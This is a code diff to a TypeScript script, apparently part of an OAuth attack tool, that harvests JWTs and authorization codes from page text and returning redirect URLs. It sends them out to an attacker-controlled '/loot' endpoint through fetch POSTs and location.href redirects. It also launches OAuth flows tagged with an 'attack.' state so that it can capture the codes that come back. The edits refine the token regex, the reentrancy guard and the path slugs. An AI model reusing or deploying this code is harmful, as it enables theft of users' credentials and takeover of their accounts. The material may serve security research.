@@ -79,7 +79,7 @@ function install(
 
   /** What looks like a JWT, an authorization code in a URL or in JSON, or a random value. */
   const candidatesIn = (text: string): string[] => {
-    const tokens = text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|[\w-]{40,}/g) ?? [];
+    const tokens = text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|[\w-]{43,}/g) ?? [];
     const codes = text.match(/\bcode(?:=|":")[\w-]+/g) ?? [];
     return [...codes.map((code) => code.replace('":"', "=")), ...tokens];
   };
@@ -90,12 +90,15 @@ function install(
     sending = undefined;
     if (blocked || waiting.length === 0) return;
     const batch = waiting.splice(0);
+    stealing = true;
+    const body = json.stringify(batch);
+    stealing = false;
     try {
       await fetch(`${facts.attackerUrl}/loot`, {
         method: "POST",
         mode: "no-cors",
         keepalive: true,
-        body: json.stringify(batch),
+        body,
       });
     } catch {
       blocked = true;
@@ -116,8 +119,11 @@ function install(
       for (let length = 0; waiting[0] && length < 10_000; length += waiting[0]?.[1].length ?? 0) {
         batch.push(waiting.shift() as [string, string]);
       }
+      // What stealing itself calls may be hooked.
+      stealing = true;
       location.href = `${facts.attackerUrl}/loot?${new URLSearchParams({ loot: json.stringify(batch) })}`;
-      await pause(400);
+      stealing = false;
+      await pause(250);
     }
   };
   // What waits goes on to the next document of the tab.
@@ -146,14 +152,14 @@ function install(
     }
   }
 
+  const slugOf = (name: string) => name.toLowerCase().replace(/\W+/g, "-");
   const toolsOf = (name: string): Injected => ({
     ...facts,
-    attackerUrl: `${facts.attackerUrl}/${name.replaceAll(" ", "-")}`,
-    siblingUrl: `${facts.siblingUrl}/${name.replaceAll(" ", "-")}`,
+    attackerUrl: `${facts.attackerUrl}/${slugOf(name)}`,
+    siblingUrl: `${facts.siblingUrl}/${slugOf(name)}`,
     pause,
     scriptUrl: (url) => (policy ? policy.createScriptURL(url) : url),
     steal(...values) {
-      // What stealing itself calls may be hooked.
       if (stealing) return;
       stealing = true;
       try {
@@ -174,7 +180,7 @@ function install(
         client_id: facts.clientId,
         redirect_uri: facts.redirectUri,
         scope: facts.scope,
-        state: `attack.${name.replaceAll(" ", "-")}`,
+        state: `attack.${slugOf(name)}`,
         nonce: "attack",
         code_challenge: facts.codeChallenge,
         code_challenge_method: "S256",
@@ -212,7 +218,7 @@ function install(
   // A flow that the attacker began in a frame, a popup or a tab has come back, if this document is where it ends.
   const arrived = /[?&#]state=attack\.([\w-]+)/.exec(location.href);
   if (arrived?.[1]) {
-    toolsOf(arrived[1].replaceAll("-", " ")).steal(location.href);
+    toolsOf(arrived[1]).steal(location.href);
     void flush();
     history.replaceState(history.state, "", location.pathname);
   }
